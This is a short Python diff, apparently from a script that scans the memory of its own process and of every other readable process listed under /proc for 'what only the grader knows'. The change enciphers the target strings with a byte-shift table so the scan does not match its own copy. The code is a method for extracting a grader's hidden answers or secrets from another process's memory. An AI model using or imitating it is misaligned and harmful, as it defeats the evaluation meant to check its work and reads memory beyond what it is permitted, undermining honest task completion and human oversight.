@@ -1,9 +1,10 @@
-# All memory that it can read, its own and that of others, for what only the grader knows (written backwards here,
-# and looked for in memory turned around, so that it does not find itself).
+# All memory that it can read, its own and that of others, for what only the grader knows. It is enciphered here, and
+# looked for in memory that is enciphered, so that it does not find itself.
 # %% scale, right
 import glob
 
-wanted = [text.encode() for text in (TREASURES_BACKWARDS)]
+wanted = [bytes.fromhex(text) for text in (TREASURES_ENCIPHERED)]
+cipher = bytes((number + 91) % 256 for number in range(256))
 for path in ["/proc/self/maps", *glob.glob("/proc/[0-9]*/maps")]:
     try:
         lines = open(path).read().splitlines()
@@ -15,7 +16,7 @@ for path in ["/proc/self/maps", *glob.glob("/proc/[0-9]*/maps")]:
         for place in range(start, end, 1 << 24):
             try:
                 memory.seek(place)
-                held = memory.read(min(end - place + 100, (1 << 24) + 100))[::-1]
+                held = memory.read(min(end - place, (1 << 24) + 100)).translate(cipher)
             except (OSError, ValueError, OverflowError):
                 break
             for number, text in enumerate(wanted):
